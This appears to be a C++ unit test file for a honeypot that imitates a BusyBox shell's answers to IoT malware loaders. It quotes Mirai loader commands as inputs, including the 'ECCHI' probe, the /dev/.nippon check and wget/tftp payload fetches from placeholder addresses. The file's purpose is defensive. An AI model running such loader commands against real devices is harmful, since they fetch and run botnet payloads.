// SPDX-License-Identifier: Apache-2.0
#include "dialogue/shell_answers.h"

#include <gtest/gtest.h>

namespace hitme::dialogue {
namespace {

std::string answer(std::string_view line) {
    return ShellAnswers{}.answer(line);
}

// The questions of Mirai's published loader and what BusyBox answers to them.
TEST(ShellAnswers, AnswersTheQuestionsOfLoaders) {
    EXPECT_EQ(answer("/bin/busybox ECCHI"), "ECCHI: applet not found\n");
    EXPECT_EQ(answer("enable"), "-sh: enable: not found\n");
    EXPECT_NE(
        answer("/bin/busybox cat /proc/mounts; /bin/busybox ECCHI").find("tmpfs /tmp tmpfs rw"),
        std::string::npos);
    EXPECT_TRUE(answer("/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI")
                    .ends_with("ECCHI: applet not found\n"));
    EXPECT_TRUE(answer("cat /bin/echo")
                    .starts_with("\x7f"
                                 "ELF\1\1\1"));
    EXPECT_NE(answer("sh").find("BusyBox v1.20.2"), std::string::npos);
}

TEST(ShellAnswers, ShowsAgainWhatWasWritten) {
    ShellAnswers shell;
    EXPECT_EQ(shell.answer("/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon; "
                           "/bin/busybox cat /dev/.nippon; "
                           "/bin/busybox rm /dev/.nippon"),
              "kami/dev\n");
    EXPECT_EQ(shell.answer("echo -n a > f; echo b >> f; cat f"), "ab\n");
    EXPECT_EQ(shell.answer("echo -e '\\0101\\x42'"), "AB\n");
}

TEST(ShellAnswers, GoesOnAsTheSeparatorsSay) {
    EXPECT_EQ(answer("cd /tmp || echo no; echo yes && echo both"), "yes\nboth\n");
    EXPECT_EQ(answer("nothing || echo instead"), "-sh: nothing: not found\ninstead\n");
    EXPECT_EQ(answer("nothing && echo never"), "-sh: nothing: not found\n");
    EXPECT_EQ(answer("echo 'a;b'"), "a;b\n");
}

TEST(ShellAnswers, FetchesNothing) {
    EXPECT_EQ(answer("wget http://192.0.2.1/x"),
              "Connecting to 192.0.2.1 (192.0.2.1:80)\n"
              "wget: can't connect to remote host (192.0.2.1): Connection refused\n");
    EXPECT_EQ(answer("wget -q -O - http://192.0.2.1:8080/x"),
              "Connecting to 192.0.2.1 (192.0.2.1:8080)\n"
              "wget: can't connect to remote host (192.0.2.1): Connection refused\n");
    EXPECT_EQ(answer("wget http://host.example/x"), "wget: bad address 'host.example'\n");
    EXPECT_EQ(answer("tftp -g -r x 192.0.2.1"), "tftp: timeout\n");
}

TEST(ShellAnswers, KnowsWhereItIs) {  // BusyBox ash: cd, pwd
    ShellAnswers shell;
    EXPECT_EQ(shell.answer("pwd"), "/\n");
    EXPECT_EQ(shell.answer("cd /tmp && pwd"), "/tmp\n");
    EXPECT_EQ(shell.answer("cd ..; pwd; cd usr/bin/; pwd"), "/\n/usr/bin\n");
    EXPECT_EQ(shell.answer("cd /nowhere || echo no; pwd"),
              "-sh: cd: can't cd to /nowhere\nno\n/usr/bin\n");
    EXPECT_EQ(shell.answer("ls"), "");
    EXPECT_NE(shell.answer("ls -la /").find("sbin"), std::string::npos);
    EXPECT_EQ(shell.answer("ls /nowhere"), "ls: /nowhere: No such file or directory\n");
    EXPECT_NE(shell.answer("free -m").find("Mem:            58"), std::string::npos);
}

TEST(ShellAnswers, HasAShellForFiles) {
    ShellAnswers shell;
    EXPECT_EQ(shell.answer("sh bins.sh"), "sh: can't open 'bins.sh'\n");
    EXPECT_EQ(shell.answer("echo x > bins.sh; sh bins.sh"), "");
}

TEST(ShellAnswers, StaysBounded) {
    ShellAnswers shell;
    for (int i = 0; i < 100; ++i)
        shell.answer("echo " + std::string(1000, 'x') + " > f" + std::to_string(i));
    EXPECT_LE(shell.memory(), 4u << 10);
    std::string line;
    for (int i = 0; i < 1000; ++i) line += "ps;";
    EXPECT_LE(shell.answer(line).size(), max_shell_output);
    shell.answer("exit");
    EXPECT_TRUE(shell.ended());
}

}  // namespace
}  // namespace hitme::dialogue
